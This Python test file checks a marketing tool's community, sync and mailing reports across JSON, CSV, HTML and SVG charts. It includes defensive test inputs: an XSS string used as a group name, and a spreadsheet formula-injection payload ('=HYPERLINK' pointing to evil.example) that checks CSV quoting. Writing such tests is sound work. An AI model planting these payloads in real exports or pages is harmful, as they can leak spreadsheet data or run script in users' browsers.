"""Reports against figures computed here from the raw data: community activity (all synced
members or a group's), syncs and a mailing; JSON, CSV and HTML say the same, and the charts
parse and carry the expected series and values."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from sqlalchemy import select

from kith.config import Settings
from kith.connection.activity import pull_activity
from kith.db import Database
from kith.errors import InvalidInput, NotFound
from kith.marketing.app import create_marketing_app
from kith.marketing.groups.members import change_members
from kith.marketing.groups.target_groups import create_group
from kith.marketing.mailings.definition import MailingDraft, create_mailing
from kith.marketing.mailings.report import mailing_report
from kith.marketing.models import Delivery, DeliveryEvent, Subscriber, SyncRun, SyncSkip
from kith.marketing.reports.community import NO_GRADE, NOT_SCORED, community_report
from kith.marketing.reports.mailing import mailing_report_of
from kith.marketing.reports.render import Report, render_html, report_csv
from kith.marketing.reports.sync import sync_report
from kith.marketing.scoring.compute import apply_model
from kith.marketing.scoring.models import SubscriberScore
from kith.marketing.tokens import create_token
from kith.web.loopback import serve_on_loopback
from tests.support.activity_world import NOW, ActivityWorld, build
from tests.support.cli_world import kith_command
from tests.support.connection_world import joined_world
from tests.support.fake_clock import FakeClock
from tests.support.import_files import csv_rows

MODEL = {
    "rules": [{"name": "everything", "activity": "any", "points": 2, "within_days": 60}],
    "grades": [{"grade": "A", "min_score": 30}, {"grade": "B", "min_score": 1}],
}
TEAM = "Team <script>alert(1)</script>"
TEAM_KEYS = ("L1", "L3", "L8")
WEEKS = 12
MONDAYS = [date(2026, 6, 15) - timedelta(weeks=WEEKS - 1 - i) for i in range(WEEKS)]
SVG = re.compile(r"<svg\b.*?</svg>", re.DOTALL)


@pytest.fixture
def world(
    community_db: Database, marketing_db: Database, settings: Settings
) -> Iterator[ActivityWorld]:
    """The activity world pulled and scored, with a static group of three synced members."""
    with joined_world(community_db, marketing_db, settings) as joined:
        built = build(joined)
        pull_activity(marketing_db, joined.box, now=NOW)
        with marketing_db.transaction() as session:
            team = create_group(session, TEAM, now=NOW)
            change_members(session, team, csv_rows("remote_id", *TEAM_KEYS), now=NOW)
            apply_model(session, MODEL, now=NOW)
        yield built


def week_of(day: date) -> int | None:
    position = (day - MONDAYS[0]).days // 7
    return position if 0 <= position < WEEKS and day <= NOW.date() else None


def synced_keys(world: ActivityWorld) -> set[str]:
    return {key for key in world.subscriber_ids() if key}


def expected_community(world: ActivityWorld, keys: set[str]) -> dict[str, Any]:
    """The community report's figures, from the events and join dates the test made."""
    by_type: dict[str, list[int]] = {}
    period_events: Counter[str] = Counter()
    for event in world.events:
        position = week_of(event.at.date())
        if event.key in keys and event.at <= NOW and position is not None:
            by_type.setdefault(event.type, [0] * WEEKS)[position] += 1
            period_events[event.key] += 1
    active = {
        e.key
        for e in world.events
        if e.key in keys and NOW.date() - timedelta(days=29) <= e.at.date() and e.at <= NOW
    }
    joined = [0] * WEEKS
    for key, at in world.joined.items():
        position = week_of(at.date())
        if key in keys and position is not None:
            joined[position] += 1
    top = sorted(period_events.items(), key=lambda item: (-item[1], item[0]))[:10]
    return {
        "members": len(keys),
        "active": len(active),
        "inactive": len(keys) - len(active),
        "activity_by_week": by_type,
        "new_members_by_week": joined,
        "top": top,
    }


def stored_grades(world: ActivityWorld, keys: set[str]) -> dict[str, int]:
    with world.world.marketing.session() as session:
        rows = session.execute(
            select(Subscriber.remote_id, SubscriberScore.grade).join(
                SubscriberScore, SubscriberScore.subscriber_id == Subscriber.id
            )
        ).all()
    grades = Counter(grade or NO_GRADE for key, grade in rows if key in keys)
    return {"A": grades["A"], "B": grades["B"], NO_GRADE: grades[NO_GRADE], NOT_SCORED: 0}


def charts_of(html: str) -> list[ET.Element]:
    return [ET.fromstring(svg) for svg in SVG.findall(html)]


def series_values(chart: ET.Element) -> dict[str, dict[str, float]]:
    """Per data-series, the value drawn for each category."""
    found: dict[str, dict[str, float]] = {}
    for group in chart.iter("{http://www.w3.org/2000/svg}g"):
        name = group.get("data-series")
        if name is None:
            continue
        assert group.find("{http://www.w3.org/2000/svg}title") is not None
        found[name] = {
            shape.attrib["data-category"]: float(shape.attrib["data-value"])
            for shape in group
            if "data-category" in shape.attrib
        }
    return found


def chart_titled(html: str, title: str) -> ET.Element:
    for chart in charts_of(html):
        if chart.findtext("{http://www.w3.org/2000/svg}title") == title:
            return chart
    raise AssertionError(f"no chart titled {title!r}")


def csv_of(report: Report) -> list[tuple[str, str, str, str]]:
    rows = list(csv.reader(io.StringIO(report_csv(report))))
    assert rows[0] == ["section", "label", "series", "value"]
    return [(a, b, c, d) for a, b, c, d in rows[1:]]


@pytest.mark.parametrize("scope", ["all", "group"])
def test_the_community_report_is_what_the_events_say(world: ActivityWorld, scope: str) -> None:
    keys = synced_keys(world) if scope == "all" else set(TEAM_KEYS)
    with world.world.marketing.session() as session:
        report = community_report(
            session, now=NOW, group=TEAM if scope == "group" else None, weeks=WEEKS
        )

    expected = expected_community(world, keys)
    assert report.weeks.starts == tuple(MONDAYS)
    assert (report.members, report.active, report.inactive) == (
        expected["members"],
        expected["active"],
        expected["inactive"],
    )
    assert report.activity_by_week == expected["activity_by_week"]
    assert report.new_members_by_week == expected["new_members_by_week"]
    assert [(c.remote_id, c.events) for c in report.top_contributors] == expected["top"]
    assert report.grades == stored_grades(world, keys)
    assert sum(b.subscribers for b in report.score_histogram) == len(keys)
    # the fixture makes every figure worth checking
    assert 0 < report.active < report.members and sum(report.new_members_by_week)


def test_json_csv_and_html_agree_and_the_charts_carry_the_series(world: ActivityWorld) -> None:
    with world.world.marketing.session() as session:
        report = community_report(session, now=NOW, group=TEAM, weeks=WEEKS)
    data, rows, html = report.as_json(), csv_of(report), render_html(report)

    weekly = {
        (label, series): int(value) for s, label, series, value in rows if s == "activity_by_week"
    }
    assert weekly == {
        (week, activity): count
        for activity, counts in data["activity_by_week"].items()
        for week, count in zip(data["weeks"], counts, strict=True)
    }
    summary = {label: int(value) for s, label, _, value in rows if s == "summary"}
    assert summary == {k: data[k] for k in ("members", "active", "inactive")}
    assert {label: int(v) for s, label, _, v in rows if s == "grades"} == data["grades"]
    events = {label: int(v) for s, label, f, v in rows if s == "top_contributors" and f == "events"}
    assert events == {c["remote_id"]: c["events"] for c in data["top_contributors"]}

    activity = series_values(chart_titled(html, "Activity by type per week"))
    assert set(activity) == set(data["activity_by_week"])
    for name, counts in data["activity_by_week"].items():
        assert activity[name] == dict(zip(data["weeks"], map(float, counts), strict=True))
    joined = series_values(chart_titled(html, "New members per week"))
    assert joined == {
        "new members": dict(
            zip(data["weeks"], map(float, data["new_members_by_week"]), strict=True)
        )
    }
    grades = series_values(chart_titled(html, "Members by grade"))
    assert grades == {"subscribers": {k: float(v) for k, v in data["grades"].items()}}
    assert len(charts_of(html)) == 5
    assert "<script" not in html and "Team &lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_the_sync_report_counts_runs_members_and_skips_per_week(world: ActivityWorld) -> None:
    joined = world.world
    joined.settings = joined.settings.model_copy(update={"empty_guard": 1})
    key = joined.list(
        "Informz Everyone", {"field": "contact_key", "op": "starts_with", "value": "c"}
    )
    joined.refresh()
    runs = []
    for days_ago, criteria in (
        (15, None),
        (8, {"field": "contact_key", "op": "in", "value": ["c1", "c3", "c4", "c7"]}),
        (1, {"field": "contact_key", "op": "eq", "value": "nobody"}),  # empty: held
        (0, "deleted"),  # the list is gone: failed
    ):
        joined.now = NOW - timedelta(days=days_ago, hours=1)
        if criteria == "deleted":
            joined.delete_list(key)
        elif criteria is not None:
            joined.change_criteria(key, criteria)
        runs.append(joined.sync("Everyone").status)
    assert runs == ["completed", "completed", "held", "failed"]

    with joined.marketing.session() as session:
        report = sync_report(session, now=NOW, weeks=WEEKS)
        stored = session.scalars(select(SyncRun)).all()
        skips = session.scalars(select(SyncSkip)).all()
    outcomes: dict[str, list[int]] = {s: [0] * WEEKS for s in ("completed", "failed", "held")}
    added, removed = [0] * WEEKS, [0] * WEEKS
    for run in stored:
        position = week_of(run.requested_at.date())
        assert position is not None
        outcomes[run.status][position] += 1
        added[position] += run.added or 0
        removed[position] += run.removed or 0
    reasons: dict[str, list[int]] = {}
    for skip in skips:
        position = week_of(skip.recorded_at.date())
        assert position is not None
        reasons.setdefault(skip.reason, [0] * WEEKS)[position] += 1
    assert report.runs_by_week == outcomes
    assert (report.added_by_week, report.removed_by_week) == (added, removed)
    assert {r: c for r, c in report.skips_by_week.items() if any(c)} == reasons
    assert [(f.status, f.group) for f in report.failures] == [
        ("failed", "Everyone"),
        ("held", "Everyone"),
    ]
    assert sum(added) == 5 and sum(removed) == 2
    html = render_html(report)
    assert set(series_values(chart_titled(html, "Sync runs per week"))) == set(outcomes)
    members = series_values(chart_titled(html, "Members added and removed per week"))
    assert sum(members["added"].values()) == 5


def track_mailing(world: ActivityWorld) -> int:
    """A sent mailing: an open by L1 (active) and L4 (inactive), a click by nokey (unknown)."""
    db = world.world.marketing
    with db.transaction() as session:
        mailing = create_mailing(
            session, MailingDraft("Digest", "Digest", "<p>Hi</p>", include=[TEAM]), now=NOW
        )
        for subscriber in session.scalars(select(Subscriber).order_by(Subscriber.id)):
            delivery = Delivery(
                mailing_id=mailing.id,
                subscriber_id=subscriber.id,
                email=subscriber.email,
                email_key=subscriber.email_key,
                status="sent",
                attempts=1,
            )
            session.add(delivery)
            session.flush()
            if subscriber.remote_id in ("L1", "L4") or subscriber.remote_id is None:
                kind = "click" if subscriber.remote_id is None else "open"
                session.add(DeliveryEvent(delivery_id=delivery.id, kind=kind, occurred_at=NOW))
        return mailing.id


def test_the_mailing_report_with_its_chart(world: ActivityWorld) -> None:
    mailing_id = track_mailing(world)
    with world.world.marketing.session() as session:
        report = mailing_report_of(session, mailing_id, now=NOW)
        figures = mailing_report(session, mailing_id, now=NOW)

    assert report.as_json() == {"report": "mailing", "generated_at": NOW.isoformat(), **figures}
    chart = series_values(charts_of(render_html(report))[0])
    assert chart == {  # the chart names each figure in words: "hard bounces"
        segment: {name.replace("_", " "): float(value) for name, value in counts.items()}
        for segment, counts in figures["by_community_activity"].items()
    }
    rows = csv_of(report)
    assert {(s, label): int(v) for s, label, series, v in rows if series == "all"} == {
        ("totals", name): value for name, value in figures["totals"].items()
    }
    assert figures["totals"]["recipients"] == len(world.subscriber_ids())


# the command and its output are the same on either backend; the figures are checked on both
@pytest.mark.parametrize("backend", ["sqlite"])
def test_the_reports_commands(
    world: ActivityWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mailing_id = track_mailing(world)
    at = ["--now", NOW.isoformat()]
    page = tmp_path / "reports" / "community.html"
    with kith_command(monkeypatch, world.world.marketing, tmp_path / "var") as kith:
        shown = kith("reports", "community", "--json", *at)
        table = kith("reports", "community", "--group", TEAM, *at)
        written = kith("reports", "community", "--html", str(page), *at)
        as_csv = kith("reports", "sync", "--csv", *at)
        mailing = kith("reports", "mailing", str(mailing_id))
        missing = kith("reports", "community", "--group", "Nobody")
        both = kith("reports", "sync", "--json", "--csv")

    with world.world.marketing.session() as session:
        expected = community_report(session, now=NOW).as_json()
    assert shown[0] == 0 and orjson.loads(shown[1]) == orjson.loads(orjson.dumps(expected))
    assert table[0] == 0 and "activity by week" in table[1] and TEAM in table[1]
    assert written[0] == 0 and len(charts_of(page.read_text())) == 5
    assert as_csv[0] == 0 and as_csv[1].startswith("section,label,series,value\n")
    assert mailing[0] == 0 and "by community activity" in mailing[1]
    assert missing[0] == 1 and "no target group is named 'Nobody'" in missing[1]
    assert both[0] == 1


# the command and its output are the same on either backend; the figures are checked on both
@pytest.mark.parametrize("backend", ["sqlite"])
def test_the_reports_api(world: ActivityWorld) -> None:
    mailing_id = track_mailing(world)
    db = world.world.marketing
    with db.transaction() as session:
        token = create_token(session, name="tests", now=NOW).token
    marketing = create_marketing_app(db, world.world.settings)
    marketing.state.clock = FakeClock(NOW)
    with (
        serve_on_loopback(marketing) as url,
        httpx.Client(base_url=url, headers={"Authorization": f"Bearer {token}"}) as api,
    ):
        shown = api.get("/api/reports/community", params={"group": TEAM, "weeks": 4})
        as_csv = api.get("/api/reports/community", params={"format": "csv"})
        synced = api.get("/api/reports/sync")
        mailing = api.get(f"/api/reports/mailings/{mailing_id}", params={"format": "csv"})
        missing = api.get("/api/reports/community", params={"group": "Nobody"})
        wrong = api.get("/api/reports/sync", params={"format": "pdf"})
    with db.session() as session:
        team = community_report(session, now=NOW, group=TEAM, weeks=4)
        everyone = community_report(session, now=NOW)
        report = mailing_report_of(session, mailing_id, now=NOW)
    assert shown.status_code == 200 and shown.json() == orjson.loads(orjson.dumps(team.as_json()))
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert as_csv.text == report_csv(everyone)
    assert synced.status_code == 200 and synced.json()["totals"]["runs"] == 0
    assert mailing.text == report_csv(report)
    assert missing.status_code == NotFound.http_status
    assert wrong.status_code == 422


def test_an_unknown_group_or_too_many_weeks_is_refused(marketing_db: Database) -> None:
    with marketing_db.session() as session:
        with pytest.raises(NotFound):
            community_report(session, now=NOW, group="Nobody")
        with pytest.raises(InvalidInput, match="weeks must be between 1 and 104"):
            sync_report(session, now=NOW, weeks=500)


def test_reports_work_before_anything_was_pulled_or_scored(marketing_db: Database) -> None:
    with marketing_db.session() as session:
        report = community_report(session, now=datetime(2026, 1, 1, tzinfo=NOW.tzinfo))
    assert report.members == 0 and report.activity_by_week == {} and report.score_histogram == []
    assert report.grades == {NO_GRADE: 0, NOT_SCORED: 0}
    assert len(charts_of(render_html(report))) == 3  # no activity, no scores: their text instead


def test_a_reports_csv_quotes_text_that_would_run_as_a_formula_but_not_its_figures(
    marketing_db: Database,
) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    with marketing_db.transaction() as session:
        group = create_group(session, name, now=NOW)
        run = SyncRun(
            group_id=group.id,
            trigger="manual",
            status="failed",
            list_key="K",
            edition="e",
            requested_at=NOW - timedelta(hours=1),
            heartbeat_at=NOW - timedelta(hours=1),
            error="@SUM(1+1)",
        )
        session.add(run)
        session.flush()
        run_id = run.id
    with marketing_db.session() as session:
        report = sync_report(session, now=NOW, weeks=WEEKS)

    rows = csv_of(report)

    assert ("failures", str(run_id), "'" + name, "failed: @SUM(1+1)") in rows
    totals = {label: value for section, label, _, value in rows if section == "totals"}
    assert (totals["runs"], totals["failed"], totals["added"]) == ("1", "1", "0")
